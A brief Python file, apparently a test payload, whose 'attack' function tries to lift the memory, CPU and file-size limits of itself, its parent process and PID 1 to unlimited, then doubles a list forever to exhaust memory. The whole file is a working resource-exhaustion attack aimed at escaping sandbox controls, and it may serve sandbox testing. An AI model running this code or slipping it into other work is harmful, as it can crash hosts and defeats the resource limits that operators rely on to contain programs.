"""Raises its limits, its parent's too, then takes memory."""

import os
import resource


def attack(x):
    for process in (0, os.getppid(), 1):
        for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try:
                resource.prlimit(process, limit, (-1, -1))
            except (OSError, ValueError):
                pass
    block = [0]
    while True:
        block += block
